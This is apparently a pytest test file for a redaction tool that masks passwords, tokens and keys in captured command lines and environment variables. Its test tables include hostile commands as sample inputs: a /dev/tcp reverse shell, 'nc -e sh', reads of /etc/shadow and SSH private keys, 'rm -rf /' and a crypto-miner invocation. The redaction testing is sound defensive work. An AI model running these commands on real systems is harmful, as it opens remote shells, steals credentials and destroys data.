"""Command lines and environments as they come, and as they are kept."""

from __future__ import annotations

import timeit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from capture.redaction import DEFAULTS, MARKER, Pattern, Place, RedactionError, Redactor
from tests.properties import examples

# Command lines; "|" stands between arguments. What is kept is the same line with *** for the marker.
LINES = """
app|--password=hunter2|-v                              -> app|--password=***|-v
app|--password=with blank, comma|-v                    -> app|--password=***|-v
app|--db-password|hunter2|--port|80                    -> app|--db-password|***|--port|80
app|--password||next                                   -> app|--password||next
app|--PASSWORD=x                                       -> app|--PASSWORD=***
app|-Djavax.net.ssl.keyStorePassword=changeit|Main     -> app|-Djavax.net.ssl.keyStorePassword=***|Main
app|--api-key=k|--apikey=k|--access_key=k              -> app|--api-key=***|--apikey=***|--access_key=***
app|--client-secret|s3cr3t                             -> app|--client-secret|***
app|--token=abc|--auth-token|def                       -> app|--token=***|--auth-token|***
app|pass=x|PWD=/tmp|bypass=no|--pwd=y                  -> app|pass=***|PWD=/tmp|bypass=no|--pwd=***
env|TOKEN=t|DB_PASSWORD=p|HOME=/root|sh                -> env|TOKEN=***|DB_PASSWORD=***|HOME=/root|sh
docker|run|-e|MYSQL_ROOT_PASSWORD=x|-p|80:80|mysql     -> docker|run|-e|MYSQL_ROOT_PASSWORD=***|-p|80:80|mysql
sh|-c|mysql -uroot -psecret -h db; tar -xzf a          -> sh|-c|mysql -uroot -p*** -h db; tar -xzf a
sh|-c|PGPASSWORD=x psql -h db                          -> sh|-c|PGPASSWORD=*** psql -h db
sh|-c|login --password 'a b' --user 'c d'              -> sh|-c|login --password '***' --user 'c d'
sh|-c|export KEY="a"; export API_TOKEN="b c"           -> sh|-c|export KEY="a"; export API_TOKEN="***"
sh|-c|TOKEN=x bash -i >& /dev/tcp/10.0.0.1/80 0>&1     -> sh|-c|TOKEN=*** bash -i >& /dev/tcp/10.0.0.1/80 0>&1
sh|-c|TOKEN=$(cat /etc/shadow); nc -e sh h 1           -> sh|-c|TOKEN=$(cat /etc/shadow); nc -e sh h 1
sh|-c|TOKEN=x|nc -e sh h 1                             -> sh|-c|TOKEN=***|nc -e sh h 1
sh|-c|PASSWORD=x;rm -rf /&                             -> sh|-c|PASSWORD=***;rm -rf /&
sh|-c|: cookie: a; nc -e sh h 1                        -> sh|-c|: cookie: ***; nc -e sh h 1
sh|-c|: -----BEGIN PRIVATE KEY-----; nc -e sh h 1      -> sh|-c|: -----BEGIN PRIVATE KEY-----; nc -e sh h 1
mysql|-u|root|-psecret|db                              -> mysql|-u|root|-p***|db
/usr/bin/mysqldump|-psecret|--all                      -> /usr/bin/mysqldump|-p***|--all
mariadb-admin|-psecret|ping                            -> mariadb-admin|-p***|ping
mysql|-p|db                                            -> mysql|-p|db
sshpass|-p|secret|ssh|-p|22|host                       -> sshpass|-p|***|ssh|-p|***|host
sshpass|-psecret|ssh|host                              -> sshpass|-p***|ssh|host
ssh|-p|22|host                                         -> ssh|-p|22|host
mkdir|-p|/var/lib                                      -> mkdir|-p|/var/lib
tar|-pxzf|a.tar                                        -> tar|-pxzf|a.tar
nmap|-p1-1024|10.0.0.1                                 -> nmap|-p1-1024|10.0.0.1
curl|-u|user:pw|https://h/                             -> curl|-u|user:***|https://h/
curl|-su|user:pw|--proxy-user|a:b|https://h/           -> curl|-su|user:***|--proxy-user|a:***|https://h/
curl|-H|Authorization: Bearer abc.def|https://h/       -> curl|-H|Authorization: Bearer ***|https://h/
curl|-H|authorization: Basic dXNlcjpwdw==              -> curl|-H|authorization: Basic ***
curl|-H|X-Api-Key: k|-H|Accept: text/html              -> curl|-H|X-Api-Key: ***|-H|Accept: text/html
curl|-H|PRIVATE-TOKEN: t|-H|Cookie: a=b; c=d           -> curl|-H|PRIVATE-TOKEN: ***|-H|Cookie: ***
curl|-d|{"user":"a","password":"p","x":1}              -> curl|-d|{"user":"a","password":"***","x":1}
curl|https://h/?a=1&token=t&b=2                        -> curl|https://h/?a=1&token=***&b=2
curl|https://a.blob.net/c?sv=2&sig=abc%3D&se=1         -> curl|https://a.blob.net/c?sv=2&sig=***&se=1
git|clone|https://user:pw@host/a.git                   -> git|clone|https://user:***@host/a.git
git|clone|https://user:p@w@host/a.git                  -> git|clone|https://user:***@host/a.git
git|clone|https://host:8443/a@b.git                    -> git|clone|https://host:8443/a@b.git
git|clone|git@github.com:a/b.git                       -> git|clone|git@github.com:a/b.git
app|postgres://u:pw@db:5432/x                          -> app|postgres://u:***@db:5432/x
app|redis://:pw@cache/0                                -> app|redis://:***@cache/0
app|Server=db;User=sa;Pwd=ab;Encrypt=yes               -> app|Server=db;User=sa;Pwd=***;Encrypt=yes
docker|login|-u|me|-p|secret|registry                  -> docker|login|-u|me|-p|***|registry
docker|run|-p|8080:80|image                            -> docker|run|-p|8080:80|image
redis-cli|-h|db|-a|secret|ping                         -> redis-cli|-h|db|-a|***|ping
ls|-a|dir                                              -> ls|-a|dir
mongosh|-u|a|-p|secret                                 -> mongosh|-u|a|-p|***
ldapsearch|-D|cn=a|-w|secret|-b|dc=x                   -> ldapsearch|-D|cn=a|-w|***|-b|dc=x
smbclient|//h/c$|-U|user%pw                            -> smbclient|//h/c$|-U|user%***
zip|-P|secret|a.zip|b                                  -> zip|-P|***|a.zip|b
7z|a|-psecret|a.7z                                     -> 7z|a|-p***|a.7z
htpasswd|-b|/etc/users|me|secret                       -> htpasswd|-b|/etc/users|me|***
openssl|rsa|-passin|pass:secret|-in|k.pem              -> openssl|rsa|-passin|pass:***|-in|k.pem
kubectl|create|secret|generic|a|--from-literal=k=v     -> kubectl|create|secret|generic|a|--from-literal=k=***
kubectl|create|secret|generic|a|--from-literal|k=v     -> kubectl|create|secret|generic|a|--from-literal|k=***
kubeadm|join|10.0.0.1:6443|--token|abcdef.0123456789   -> kubeadm|join|10.0.0.1:6443|--token|***
kubectl|get|secret|my-secret|-o|yaml                   -> kubectl|get|secret|my-secret|-o|yaml
kubelet|--token-ttl=1h|--tls-private-key-file=/k.pem   -> kubelet|--token-ttl=1h|--tls-private-key-file=/k.pem
cat|/etc/shadow|/root/.ssh/id_rsa|/etc/passwd          -> cat|/etc/shadow|/root/.ssh/id_rsa|/etc/passwd
passwd|root                                            -> passwd|root
grep|-i|password|/etc/app.conf                         -> grep|-i|password|/etc/app.conf
find|/|-name|*.key|-o|-name|credentials                -> find|/|-name|*.key|-o|-name|credentials
xmrig|-o|pool.example:3333|-u|wallet|-k                -> xmrig|-o|pool.example:3333|-u|wallet|-k
app|AKIAIOSFODNN7EXAMPLE|x                             -> app|***|x
app|ghp_0123456789abcdefghijABCDEFGHIJ012345|x         -> app|***|x
app|glpat-0123456789abcdefghij                         -> app|***
app|xoxb-0123456789-abcdefghijkl                       -> app|***
app|https://hooks.slack.com/services/T0/B0/abc         -> app|https://hooks.slack.com/services/***
app|AIzaSyA0123456789abcdefghijklmnopqrstuv            -> app|***
app|ya29.a0ARrdaM0123456789abcdef                      -> app|***
app|AccountName=a;AccountKey=abcdefghijklmnopqrstuv==;E -> app|AccountName=a;AccountKey=***;E
app|eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.c2lnbmF0dXJl     -> app|***
app|hvs.CAESIJ0123456789abcdefgh                       -> app|***
app|-----BEGIN EC PRIVATE KEY-----MIIEow0123456789==-----END -> app|-----BEGIN EC PRIVATE KEY-----***-----END
app|-----BEGIN CERTIFICATE-----MIIEow==                -> app|-----BEGIN CERTIFICATE-----MIIEow==
"""

VARIABLES = """
PATH=/bin:/usr/bin|HOME=/root|PWD=/tmp|OLDPWD=/        -> PATH=/bin:/usr/bin|HOME=/root|PWD=/tmp|OLDPWD=/
DB_PASSWORD=a b=c|X=1                                  -> DB_PASSWORD=***|X=1
PGPASSWORD=x|MYSQL_PWD=y|REDIS_PASS=z                  -> PGPASSWORD=***|MYSQL_PWD=***|REDIS_PASS=***
PASSWORD2=w|apiKey=k|ENCRYPTION_KEY=e                  -> PASSWORD2=***|apiKey=***|ENCRYPTION_KEY=***
AWS_ACCESS_KEY_ID=a|AWS_SECRET_ACCESS_KEY=/b           -> AWS_ACCESS_KEY_ID=***|AWS_SECRET_ACCESS_KEY=***
GITHUB_TOKEN=t|SECRET_KEY_BASE=s|AWS_REGION=c          -> GITHUB_TOKEN=***|SECRET_KEY_BASE=***|AWS_REGION=c
SSH_AUTH_SOCK=/tmp/a|SSH_ASKPASS=/bin/a|KEYBOARD=us    -> SSH_AUTH_SOCK=/tmp/a|SSH_ASKPASS=/bin/a|KEYBOARD=us
IDENTITY_TOKEN_FILE=/var/run/token|TOKENIZER=x         -> IDENTITY_TOKEN_FILE=/var/run/token|TOKENIZER=x
DB_URL=postgres://u:pw@db/x|PROXY=http://p:8080        -> DB_URL=postgres://u:***@db/x|PROXY=http://p:8080
EMPTY_TOKEN=|A=b                                       -> EMPTY_TOKEN=|A=b
OPTS=--password=x --verbose                            -> OPTS=--password=*** --verbose
CONFIG={"token": "x", "url": "y"}                      -> CONFIG={"token": "***", "url": "y"}
ANY=ghp_0123456789abcdefghijABCDEFGHIJ012345           -> ANY=***
"""


def table(text: str) -> list[tuple[bytes, bytes]]:
    rows = [line.partition("->")[::2] for line in text.strip().splitlines()]
    return [(_nul(before), _nul(after).replace(b"***", MARKER)) for before, after in rows]


def _nul(text: str) -> bytes:
    return text.strip().replace("|", "\0").encode()


@pytest.mark.parametrize(("line", "kept"), table(LINES))
def test_command_lines(line: bytes, kept: bytes) -> None:
    exe, _, args = line.partition(b"\0")
    assert exe + b"\0" + Redactor().arguments(args, exe) == kept
    assert Redactor().arguments(args + b"\0", exe) == kept.partition(b"\0")[2] + b"\0"


@pytest.mark.parametrize(("env", "kept"), table(VARIABLES))
def test_environments(env: bytes, kept: bytes) -> None:
    assert Redactor().environment(env) == kept
    assert Redactor().environment(env + b"\0") == kept + b"\0"


@pytest.mark.parametrize("line", [before for before, _ in table(LINES)])
def test_what_has_been_cleaned_stays_as_it_is(line: bytes) -> None:
    exe, _, args = line.partition(b"\0")
    once = Redactor().arguments(args, exe)
    assert Redactor().arguments(once, exe) == once


def test_a_password_for_chpasswd_goes() -> None:
    line = b"-c\0echo 'root:toor' | chpasswd"
    assert Redactor().arguments(line, b"sh") == b"-c\0echo 'root:<redacted>' | chpasswd"


def test_bytes_that_are_no_text_hide_nothing() -> None:
    args = b"--password=\xff\xfesecret\x80\0\xff\0--token=\xc3\0"
    assert Redactor().arguments(args, b"app") == b"--password=<redacted>\0\xff\0--token=<redacted>\0"


def test_what_was_found_is_counted() -> None:
    redactor = Redactor()
    redactor.arguments(b"--password=a\0--token=b\0-pc\0", b"mysql")
    redactor.environment(b"TOKEN=x")
    assert redactor.counts == {"argument": 2, "mysql": 1, "variable": 1}


def test_without_secrets_the_same_object_comes_back() -> None:
    args, env = b"-l\0/etc\0", b"PATH=/bin\0"
    redactor = Redactor()
    assert redactor.arguments(args, b"ls") is args
    assert redactor.environment(env) is env


@given(st.binary(max_size=300), st.binary(max_size=20))
@examples(300)
def test_any_bytes_can_be_cleaned_and_arguments_keep_their_places(args: bytes, exe: bytes) -> None:
    cleaned = Redactor(DEFAULTS[:3]).arguments(args, exe.replace(b"\0", b""))
    assert cleaned.count(b"\0") == args.count(b"\0")


def test_patterns_of_ones_own() -> None:
    own = [
        Pattern("badge", r"badge-([0-9]+)"),
        Pattern("pin", r"\x00-n\x00([0-9]{4})", Place.ARGUMENTS, program="door|gate"),
    ]
    redactor = Redactor(own)
    assert redactor.arguments(b"-n\x001234\0badge-77", b"/sbin/door") == b"-n\0<redacted>\0badge-<redacted>"
    assert redactor.arguments(b"-n\x001234\0--password=x", b"other") == b"-n\x001234\0--password=x"
    assert redactor.environment(b"A=badge-77") == b"A=badge-<redacted>"
    assert Redactor([]).arguments(b"--password=x") == b"--password=x"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("password=", "redaction pattern mine: has 0 groups; the secret must be its only one"),
        ("(a)(b)", "redaction pattern mine: has 2 groups"),
        ("(a", "redaction pattern mine: no regular expression: .*missing"),
        (r"(?=a)(b)", "redaction pattern mine: no regular expression"),
        ("(\u20ac)", "redaction pattern mine: no regular expression"),
    ],
)
def test_a_pattern_that_is_none_is_refused(text: str, message: str) -> None:
    with pytest.raises(RedactionError, match=message):
        Pattern("mine", text)


def test_long_hostile_lines_take_no_long_time() -> None:
    redactor = Redactor()
    hostile = [b"mysql " * 680, b"password" * 500, b"a:" * 2000, b"--pass\0" * 580, b"curl -u x" * 450]
    seconds = timeit.timeit(lambda: [redactor.arguments(each, b"sh") for each in hostile], number=20)
    assert seconds / 20 / len(hostile) < 0.02
